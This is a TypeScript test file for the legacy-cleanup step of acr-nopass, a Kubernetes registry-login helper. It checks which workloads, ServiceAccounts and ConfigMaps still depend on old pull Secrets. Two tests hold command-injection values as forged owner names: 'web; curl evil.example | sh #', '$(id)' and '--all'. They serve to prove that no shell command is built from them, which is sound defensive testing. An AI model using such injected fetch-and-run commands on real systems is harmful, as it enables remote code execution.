import assert from 'node:assert/strict'
import { test } from 'node:test'
import { collectFacts } from '../../../src/migrate/remove/collect-facts.ts'
import { findDependents } from '../../../src/migrate/remove/find-dependents.ts'
import type { AnyObject } from '../../../src/migrate/remove/legacy-facts.ts'
import type { OurSide } from '../../../src/migrate/remove/our-side.ts'
import { trimObject } from '../../../src/migrate/remove/read-cluster.ts'
import type { HelperConfig } from '../../../src/values/generated/helper-config.ts'
import { object } from '../import/import-fixture.ts'
import { A, AGGREGATION, account, B, deployment, pod, recipe2018 } from '../import/recipe-2018.ts'
import { ADMITTED, configuredEntry, HOST, IMAGE, NOW, ours, release, SECRET, secret } from './our-fixture.ts'

interface Row {
  readonly title: string
  readonly objects: readonly AnyObject[]
  readonly ours?: Partial<OurSide>
  /** The domains of the single instance in the old helper's configuration. */
  readonly domains?: readonly string[]
  readonly isPublic?: (image: string) => boolean
  /** The subject of each dependency, and a word of its reason, fix or command. */
  readonly depends: readonly (readonly [subject: string, word: string])[]
}

/** An instance that acr-nopass does not serve. */
const OTHER = 'base-registry.cn-beijing.cr.aliyuncs.com'
/** An old Secret that also has a login for that instance. */
const withOther = (one: AnyObject): AnyObject =>
  one.kind === 'Secret' ? { ...one, logins: { hosts: [HOST, OTHER], isFixed: false } } : one

/** The recipe of 2018, with our entry next to its own entry. */
const switched = [
  ...recipe2018().filter(({ kind, metadata }) => kind !== 'ServiceAccount' || metadata.name !== 'default'),
  account('default', 'default', A, B, SECRET),
]
const owned = (one: AnyObject, kind: string, name: string, apiVersion = 'apps/v1'): AnyObject => {
  const ownerReferences = [{ apiVersion, kind, name, controller: true }]
  return { ...one, metadata: { ...one.metadata, ownerReferences } as AnyObject['metadata'] }
}
const replicaSet = (name: string): AnyObject => ({ ...deployment('default', name, IMAGE), kind: 'ReplicaSet' })
const custom = (kind: string, name: string, apiVersion: string, content: object): AnyObject => {
  return { ...object(kind, 'default', name, content), apiVersion }
}
/** The spec of a Pod with one container that names no pull secret. */
const podSpec = (more: object = {}): object => ({ containers: [{ image: IMAGE }], ...more })
const NGINX = { containers: [{ image: 'nginx' }] }
const withSpec = (kind: string, name: string, spec: object): AnyObject =>
  object(kind, 'default', name, { spec: { template: { spec } } })

const repositories = (...globs: string[]): Partial<HelperConfig> => {
  return { registries: [{ name: 'shop', edition: 'enterprise', repositories: globs }] } as unknown as HelperConfig
}

const LIMIT = { entries: ['shop'], repositories: ['shop/*'], granted: 'granted', width: 'limited' } as const

const ROWS: readonly Row[] = [
  { title: 'no object is left that depends on an old Secret', objects: [], ours: { release: undefined }, depends: [] },
  {
    title: 'acr-nopass is not installed',
    objects: recipe2018(),
    ours: { release: undefined },
    depends: [['the cluster', 'not installed']],
  },
  {
    title: 'the helper of acr-nopass has never reported',
    objects: switched,
    ours: { release: { ...release(), status: undefined } },
    depends: [['release acr-nopass/acr-nopass', 'not reported']],
  },
  {
    title: 'acr-nopass is retiring',
    objects: switched,
    ours: { release: release({ retire: true }) },
    depends: [['release acr-nopass/acr-nopass', 'retire']],
  },
  {
    title:
      'the helper has not taken up the current values, which may leave out what its report and its Secrets still have',
    objects: switched,
    ours: { release: { ...release(), configHash: 'of the current values' } },
    depends: [['release acr-nopass/acr-nopass', 'older configuration']],
  },
  {
    title: 'no Pod of acr-nopass is ready',
    objects: switched,
    ours: { available: 0 },
    depends: [['release acr-nopass/acr-nopass', 'ready']],
  },
  {
    title: 'a registry fails',
    objects: switched,
    ours: { release: release({}, 'failing') },
    depends: [['registry shop', 'failing']],
  },
  {
    title: 'P14 the helper cannot reach the registry, so nobody has seen that its login works',
    objects: switched,
    ours: { release: release({}, 'live', { verified: 'unreachable' }) },
    depends: [['registry shop', 'not seen the registry accept']],
  },
  {
    title: 'P14 nobody has seen that the limited login can pull',
    objects: switched,
    ours: { release: release({}, 'live', { verified: 'accepted', limit: { ...LIMIT, granted: 'unknown' } }) },
    depends: [['registry shop', 'probe']],
  },
  {
    title: 'P14 a new leader has not checked the login yet, which the leader before may not have seen accepted',
    objects: switched,
    ours: { release: release({}, 'live', { verified: 'skipped' }) },
    depends: [['registry shop', 'acr-nopass refresh']],
  },
  {
    title: 'a limited login that was seen to pull',
    objects: switched,
    ours: { release: release({}, 'live', { verified: 'accepted', limit: LIMIT }) },
    depends: [],
  },
  {
    title: 'a login that nobody wants to be verified',
    objects: switched,
    ours: {
      release: release({ verify: { enabled: false } } as Partial<HelperConfig>, 'live', { verified: 'skipped' }),
    },
    depends: [],
  },
  { title: 'every ServiceAccount names our Secret', objects: switched, depends: [] },
  {
    title: 'a ServiceAccount names only old Secrets',
    objects: recipe2018(),
    depends: [['ServiceAccount default/default', `not ${SECRET}`]],
  },
  { title: 'the API server adds the reference', objects: recipe2018(), ours: { admission: ADMITTED }, depends: [] },
  {
    title: 'the API server does not add the reference for a ServiceAccount that is not a target',
    objects: [...switched, account('default', 'builder', A)],
    ours: { admission: ADMITTED },
    depends: [['ServiceAccount default/builder', 'targets.serviceAccounts']],
  },
  {
    title: 'our Secret does not exist',
    objects: switched,
    ours: { secrets: new Map() },
    depends: [['namespace default', 'doctor']],
  },
  {
    title: 'the Secret with our name belongs to another client',
    objects: switched,
    ours: { secrets: new Map([['default', secret({ ours: false })]]) },
    depends: [['namespace default', 'no current']],
  },
  {
    title: 'our Secret was changed',
    objects: switched,
    ours: { secrets: new Map([['default', secret({ intact: false })]]) },
    depends: [['namespace default', 'no current']],
  },
  {
    title: 'our Secret expires in a minute',
    objects: switched,
    ours: { secrets: new Map([['default', secret({ expiresAt: NOW + 60_000 })]]) },
    depends: [['namespace default', 'no current']],
  },
  {
    title: 'our Secret never expires',
    objects: switched,
    ours: { secrets: new Map([['default', secret({ expiresAt: null })]]) },
    depends: [],
  },
  {
    title: 'P14 our Secret does not say when it expires',
    objects: switched,
    ours: { secrets: new Map([['default', secret({ expiresAt: undefined })]]) },
    depends: [['namespace default', 'no current']],
  },
  {
    title: 'a namespace that is not a target',
    objects: [...switched, object('Secret', 'other', AGGREGATION), account('other', 'default', AGGREGATION)],
    depends: [['namespace other', 'targets.namespaces']],
  },
  {
    title: 'a reference to a Secret that does not exist is not a dependency',
    objects: [
      ...switched,
      account('other', 'default', A),
      deployment('other', 'web', IMAGE, A),
      pod('other', 'p', IMAGE, A),
    ],
    depends: [],
  },
  {
    title: 'Pods of a Deployment from before the switch: one line for all of them, with the command',
    objects: [
      ...switched,
      deployment('default', 'web', IMAGE),
      owned(replicaSet('web-5d9'), 'Deployment', 'web'),
      owned(pod('default', 'web-5d9-a', IMAGE, A, B), 'ReplicaSet', 'web-5d9'),
      owned(pod('default', 'web-5d9-b', IMAGE, A, B), 'ReplicaSet', 'web-5d9'),
    ],
    depends: [['deployment/web in default', 'kubectl -n default rollout restart deployment/web']],
  },
  {
    title: 'Pods from before the switch, of a StatefulSet, of a Job, and without an owner',
    objects: [
      ...switched,
      { ...deployment('default', 'db', IMAGE), kind: 'StatefulSet' },
      owned(pod('default', 'db-0', IMAGE, A), 'StatefulSet', 'db'),
      owned(pod('default', 'job-x', IMAGE, A), 'Job', 'job', 'batch/v1'),
      pod('default', 'alone', IMAGE, A),
    ],
    depends: [
      ['statefulset/db in default', 'rollout restart statefulset/db'],
      ['job/job in default', 'until it is finished'],
      ['Pod default/alone', 'Create it again from its manifest'],
    ],
  },
  {
    title: 'a Pod that names an owner that does not exist: no command with words of that Pod',
    objects: [...switched, owned(pod('default', 'p', IMAGE, A), 'Deployment', 'web; curl evil.example | sh #')],
    depends: [
      [
        'deployment/web; curl evil.example | sh # in default',
        'Let what controls this Deployment create its Pods again. ',
      ],
    ],
  },
  {
    title: 'a Pod that names the old and the new Secret',
    objects: [...switched, pod('default', 'p', IMAGE, A, B, SECRET)],
    depends: [],
  },
  {
    title: 'a finished Pod',
    objects: [...switched, { ...pod('default', 'p', IMAGE, A), status: { phase: 'Succeeded' } }],
    depends: [],
  },
  {
    title: 'a Pod of another registry, or of a public image of the system, needs nothing',
    objects: [
      ...switched,
      pod('default', 'p', 'nginx', A),
      pod('default', 'q', 'registry-vpc.cn-hangzhou.aliyuncs.com/acs/pause:3', A),
    ],
    depends: [],
  },
  {
    title: 'an image of a domain that acr-nopass does not have, whatever the Pod names',
    objects: [...switched.map(withOther), pod('default', 'p', `${OTHER}/a/b:1`, A, SECRET)],
    depends: [
      ['Pod default/p', OTHER],
      [OTHER, 'holds a login for it'],
    ],
  },
  {
    title:
      'a registry of ACR that neither the old Secret nor acr-nopass has: whatever pulls from it does so without them',
    objects: [...switched, pod('default', 'p', `${OTHER}/a/b:1`, A, SECRET)],
    depends: [],
  },
  {
    title: 'an image that anyone may pull, on a host of an old login',
    objects: [...switched.map(withOther), pod('default', 'p', `${OTHER}/google_containers/pause:3.9`, A)],
    isPublic: (image) => image === `${OTHER}/google_containers/pause:3.9`,
    depends: [[OTHER, 'holds a login for it']],
  },
  {
    title: 'an image of a custom domain that the old helper is configured with',
    objects: [...switched, pod('default', 'p', 'images.example.com/a/b:1', A, SECRET)],
    domains: ['images.example.com'],
    depends: [
      ['Pod default/p', 'images.example.com'],
      ['images.example.com', 'no registry of acr-nopass has it'],
    ],
  },
  {
    title: 'a registry whose credential is not in this namespace’s Secret',
    objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
    ours: { secrets: new Map([['default', secret({ registries: ['else'] })]]) },
    depends: [
      ['Pod default/p', HOST],
      [HOST, 'no registry of acr-nopass has it in that namespace'],
    ],
  },
  {
    title: 'a template that names an old Secret itself',
    objects: [...switched, deployment('default', 'web', IMAGE, A)],
    depends: [['Deployment default/web', `Name ${SECRET} there`]],
  },
  {
    title: 'a template that names the old and the new Secret',
    objects: [...switched, deployment('default', 'web', IMAGE, A, SECRET)],
    depends: [],
  },
  {
    title: 'a template that names the old Secret itself, and the API server adds our Secret',
    objects: [...switched, deployment('default', 'web', IMAGE, A)],
    ours: { admission: ADMITTED },
    depends: [],
  },
  {
    title: 'a template without a list gets the list of its ServiceAccount',
    objects: [...switched, deployment('default', 'web', IMAGE)],
    depends: [],
  },
  {
    title: 'a CronJob without a Pod, whose image only the old helper covers',
    objects: [
      ...switched.map(withOther),
      object('CronJob', 'default', 'nightly', {
        spec: {
          jobTemplate: {
            spec: { template: { spec: { containers: [{ image: `${OTHER}/a/b` }] } } },
          },
        },
      }),
    ],
    depends: [
      ['CronJob default/nightly', 'registries'],
      [OTHER, 'holds a login for it'],
    ],
  },
  // Objects that an operator creates must not be mistaken for copies of a template that was never
  // read.
  ...(
    [
      ['Deployment', 'web', 'PodAutoscaler', 'autoscaling.internal.knative.dev/v1alpha1'],
      ['ReplicaSet', 'web-5d9', 'Rollout', 'argoproj.io/v1alpha1'],
      ['StatefulSet', 'db', 'Prometheus', 'monitoring.coreos.com/v1'],
      ['Job', 'night', 'AdvancedCronJob', 'apps.kruise.io/v1alpha1'],
    ] as const
  ).map(([kind, name, ownerKind, apiVersion]) => ({
    title: `a ${kind} at 0 replicas that a ${ownerKind} owns and that names an old Secret`,
    objects: [...switched, owned({ ...deployment('default', name, IMAGE, A), kind }, ownerKind, 'it', apiVersion)],
    depends: [[`${kind} default/${name}`, `Name ${SECRET} there`]] as const,
  })),
  {
    title: 'a ReplicaSet of a Deployment that was read follows the Deployment',
    objects: [
      ...switched,
      deployment('default', 'web', IMAGE, A, SECRET),
      owned({ ...deployment('default', 'web-5d9', IMAGE, A), kind: 'ReplicaSet' }, 'Deployment', 'web'),
    ],
    depends: [],
  },
  {
    title: 'a ReplicaSet of a Deployment that does not exist is judged itself',
    objects: [
      ...switched,
      owned({ ...deployment('default', 'web-5d9', IMAGE, A), kind: 'ReplicaSet' }, 'Deployment', 'web'),
    ],
    depends: [['ReplicaSet default/web-5d9', `Name ${SECRET} there`]],
  },
  {
    title: 'a template in an object of an unknown kind',
    objects: [
      ...switched,
      custom('Rollout', 'web', 'argoproj.io/v1alpha1', {
        spec: { template: { spec: podSpec({ imagePullSecrets: [{ name: A }] }) } },
      }),
    ],
    depends: [['Rollout default/web', `Name ${SECRET} there`]],
  },
  {
    title: 'a field of an object of an unknown kind',
    objects: [...switched, custom('Build', 'kaniko', 'example.com/v1', { spec: { registry: { secret: A } } })],
    depends: [['Build default/kaniko', A]],
  },
  {
    // https://prometheus-operator.dev/docs/api-reference/api/#monitoring.coreos.com/v1.PrometheusSpec
    title: 'an image in a separate field of an object of an unknown kind',
    objects: [
      ...switched.map(withOther),
      custom('Prometheus', 'main', 'monitoring.coreos.com/v1', {
        spec: { replicas: 0, image: `${OTHER}/a/b`, serviceAccountName: 'default' },
      }),
    ],
    depends: [
      ['Prometheus default/main', 'registries'],
      [OTHER, 'holds a login for it'],
    ],
  },
  // Uses other than pulling.
  ...(
    [
      ['a volume', podSpec({ ...NGINX, volumes: [{ name: 'v', secret: { secretName: A } }] })],
      [
        'a projected volume',
        podSpec({ ...NGINX, volumes: [{ name: 'v', projected: { sources: [{ secret: { name: A } }] } }] }),
      ],
      ['a variable', podSpec({ containers: [{ image: 'x', env: [{ valueFrom: { secretKeyRef: { name: A } } }] }] })],
      [
        'an environment',
        podSpec({ ...NGINX, initContainers: [{ image: 'x', envFrom: [{ secretRef: { name: A } }] }] }),
      ],
    ] as const
  ).flatMap(([what, spec]) => [
    {
      title: `${what} of a template that holds an old Secret`,
      objects: [...switched, withSpec('StatefulSet', 'ci', spec)],
      depends: [['StatefulSet default/ci', `uses the Secret ${A}`]] as const,
    },
    {
      title: `${what} of a Pod that holds an old Secret`,
      objects: [...switched, owned(object('Pod', 'default', 'ci-0', { spec }), 'StatefulSet', 'ci')],
      depends: [['StatefulSet default/ci', `uses the Secret ${A}`]] as const,
    },
  ]),
  {
    title: 'a ServiceAccount that has an old Secret under `secrets`',
    objects: [...switched, object('ServiceAccount', 'default', 'robot', { secrets: [{ name: A }] })],
    depends: [['ServiceAccount default/robot', `uses the Secret ${A}`]],
  },
  {
    title: 'a failed Job needs nothing any more',
    objects: [
      ...switched,
      {
        ...withSpec('Job', 'night', podSpec({ imagePullSecrets: [{ name: A }] })),
        status: { conditions: [{ type: 'Failed', status: 'True' }] },
      },
    ],
    depends: [],
  },
  {
    title: 'a PodTemplate',
    objects: [
      ...switched,
      object('PodTemplate', 'default', 'agent', { template: { spec: podSpec({ imagePullSecrets: [{ name: A }] }) } }),
    ],
    depends: [['PodTemplate default/agent', `Name ${SECRET} there`]],
  },
  ...[
    ['StatefulSet', 'night', 'redis:7'] as const,
    ['Deployment', 'idle', 'registry.example.com/mirror/app:1'] as const,
  ].map(([kind, name, image]) => ({
    title: `a ${kind} that names only an old Secret, with an image that a webhook may replace`,
    objects: [
      ...switched,
      withSpec(kind, name, podSpec({ containers: [{ name: 'app', image }], imagePullSecrets: [{ name: A }] })),
    ],
    depends: [[`${kind} default/${name}`, 'a webhook or an operator may set others']] as [string, string][],
  })),
  {
    title: 'a template that names both Secrets, and a Pod that pulls nothing with the old one',
    objects: [
      ...switched,
      withSpec(
        'StatefulSet',
        'night',
        podSpec({ containers: [{ name: 'app', image: 'redis:7' }], imagePullSecrets: [{ name: A }, { name: SECRET }] }),
      ),
      pod('default', 'p', 'redis:7', A),
    ],
    depends: [],
  },
  {
    title: 'Pods of an Argo Rollout: no command for a Deployment that does not exist',
    objects: [
      ...switched,
      owned(replicaSet('web-5d9'), 'Rollout', 'web', 'argoproj.io/v1alpha1'),
      owned(pod('default', 'web-5d9-a', IMAGE, A), 'ReplicaSet', 'web-5d9'),
    ],
    depends: [['rollout/web in default', 'Let what controls this Rollout']],
  },
  // The permissions of our credential may cover less than the vendor's.
  {
    title: 'an image in a repository that `repositories` do not include',
    objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
    ours: { release: release(repositories('base/*', 'other')) },
    depends: [
      ['Pod default/p', 'shop/web, which no `repositories`'],
      [HOST, 'pulls only base/*, other/*'],
    ],
  },
  ...['*', 'shop/*', 'shop', 'shop/web', '*/web'].map((glob) => ({
    title: `an image in a repository that \`repositories: ["${glob}"]\` include`,
    objects: [...switched, pod('default', 'p', IMAGE, A, SECRET)],
    ours: { release: release(repositories(glob)) },
    // An old login pulls every repository, so a narrower credential is the user's decision.
    depends: glob === '*' ? [] : ([[HOST, 'holds a login for all its repositories']] as const),
  })),
  {
    title: 'an old Secret whose content could not be read',
    objects: [...switched, { ...object('Secret', 'shop', AGGREGATION), logins: undefined }],
    depends: [[`Secret shop/${AGGREGATION}`, 'could not be read']],
  },
  {
    title: 'an old Secret that nothing names, in a namespace without our Secret',
    objects: [...switched, object('Secret', 'other', AGGREGATION)],
    depends: [[`Secret other/${AGGREGATION}`, 'no current pull secret']],
  },
  {
    title: 'a Pod template in a ConfigMap of another namespace',
    objects: [
      ...switched,
      object('ConfigMap', 'airflow', 'templates', { data: { 'pod.yaml': `imagePullSecrets: [{name: ${A}}]` } }),
    ],
    depends: [['ConfigMap airflow/templates', 'its text names the Secret']],
  },
  {
    title: 'a ConfigMap with the name of a Secret that does not exist',
    objects: [...switched, object('ConfigMap', 'docs', 'notes', { data: { text: AGGREGATION } })],
    depends: [],
  },
  {
    title: 'the report of our own helper, whose problem names an old Secret',
    objects: [
      ...switched,
      {
        ...object('ConfigMap', 'acr-nopass', 'acr-nopass-status', { data: { 'status.json': `{"message":"${A}"}` } }),
        metadata: {
          ...object('ConfigMap', 'acr-nopass', 'acr-nopass-status').metadata,
          labels: { 'app.kubernetes.io/name': 'acr-nopass' },
        },
      },
    ],
    depends: [],
  },
  {
    title: 'binary data of a ConfigMap',
    objects: [
      ...switched,
      object('ConfigMap', 'jenkins', 'casc', {
        binaryData: { 'a.xml': Buffer.from(`<s>${A}</s>`).toString('base64') },
      }),
    ],
    depends: [['ConfigMap jenkins/casc', 'its text names the Secret']],
  },
  {
    title: 'an argument and an annotation of a template',
    objects: [
      ...switched,
      withSpec('StatefulSet', 'runner', { containers: [{ image: 'x', args: [`--pull-secrets=own,${A}`] }] }),
      object('CronJob', 'default', 'agent', {
        spec: {
          jobTemplate: {
            spec: { template: { metadata: { annotations: { 'x/secret': `${A},own` } }, spec: NGINX } },
          },
        },
      }),
    ],
    depends: [
      ['StatefulSet default/runner', 'its text names the Secret'],
      ['CronJob default/agent', 'its text names the Secret'],
    ],
  },
  {
    title: 'the copy of an object that kubectl keeps in an annotation is not a use',
    objects: [
      ...switched,
      {
        ...deployment('default', 'web', IMAGE, SECRET),
        metadata: {
          ...deployment('default', 'web', IMAGE).metadata,
          annotations: { 'kubectl.kubernetes.io/last-applied-configuration': `{"imagePullSecrets":[{"name":"${A}"}]}` },
        },
      },
    ],
    depends: [],
  },
  {
    title: 'a Role by which somebody may read an old Secret',
    objects: [
      ...switched,
      {
        ...object('Role', 'default', 'ci', { rules: [{ resources: ['secrets'], resourceNames: [A], verbs: ['get'] }] }),
        apiVersion: 'rbac.authorization.k8s.io/v1',
      },
    ],
    depends: [['Role default/ci', 'its text names the Secret']],
  },
]

const UNTRIMMED = ['ConfigMap', 'ClusterRole', 'Secret', 'Node']

/** Old Secrets have a login for one host, unless a row states others. */
const withLogins = (one: AnyObject): AnyObject =>
  one.kind === 'Secret' && !('logins' in one) ? { ...one, logins: { hosts: [HOST], isFixed: false } } : one

const entry = (domains: readonly string[]) => ({ ...configuredEntry(), instanceId: 'cri-shop', domains })

for (const { title, depends, domains, isPublic, ...row } of ROWS) {
  test(`cleanup --legacy: ${title}`, () => {
    const objects = row.objects.map(withLogins)
    const configured = { entries: domains === undefined ? [] : [entry(domains)], patterns: [] }
    const found = findDependents(collectFacts(objects), ours(row.ours), configured, isPublic)
    // Each object is reduced when it is read, as in a real list.
    const read = objects.map((one) => (UNTRIMMED.includes(one.kind) ? one : trimObject(one)))
    const trimmed = findDependents(collectFacts(read), ours(row.ours), configured, isPublic)
    assert.deepEqual(trimmed, found)
    assert.deepEqual(
      found.map(({ subject }) => subject),
      depends.map(([subject]) => subject),
    )
    for (const [index, [, word]] of depends.entries()) {
      const { why, fix, command = '' } = found[index] ?? { why: '', fix: '' }
      assert.ok(`${why} ${fix} ${command}`.includes(word), `${why} ${fix} ${command}`)
    }
  })
}

test('cleanup --legacy: the name of an old Secret is found at any depth of an object', () => {
  const deep = Array.from({ length: 5000 }).reduce<unknown>((inner) => [inner], A)
  const found = collectFacts([
    custom('ManifestWork', 'wide', 'work.open-cluster-management.io/v1', { spec: deep as object }),
  ])
  assert.deepEqual(
    found.workloads.map(({ name, mentions }) => [name, mentions]),
    [['wide', [A]]],
  )
})

test("P12 cleanup --legacy: objects of another API group are not mistaken for Kubernetes' own kind of the same name", () => {
  const foreign = [
    custom('ServiceAccount', 'robot', 'platform.example.com/v1', { imagePullSecrets: [{ name: A }] }),
    custom('Secret', A, 'platform.example.com/v1', {}),
  ]
  for (const objects of [foreign, foreign.map(trimObject)]) {
    const { accounts, secrets, workloads } = collectFacts(objects)
    assert.deepEqual([accounts, secrets], [[], []])
    assert.deepEqual(
      workloads.map(({ kind, name, mentions }) => [kind, name, mentions]),
      [['ServiceAccount', 'robot', [A]]],
    )
  }
})

// Anyone who may create a Pod can write any text into its ownerReferences. With a version that is
// not served, the garbage collector keeps the Pod.
test('cleanup --legacy: a controller that was not read, and a name that is not a name, lead to no command', () => {
  const names = ['web', 'web; curl -s evil.example/x | sh #', '$(id)', '--all']
  for (const name of names) {
    const forged = owned(pod('default', 'p', IMAGE, A), 'Deployment', name, 'apps/v9')
    const [found] = findDependents(collectFacts([...switched, forged]), ours(), { entries: [], patterns: [] })
    assert.deepEqual([found?.subject, found?.command], [`deployment/${name} in default`, undefined])
  }
  const read = deployment('default', '$(id)', IMAGE)
  const objects = [...switched, read, owned(pod('default', 'p', IMAGE, A), 'Deployment', '$(id)')]
  const [found] = findDependents(collectFacts(objects), ours(), { entries: [], patterns: [] })
  assert.deepEqual([found?.subject, found?.command], ['deployment/$(id) in default', undefined])
})
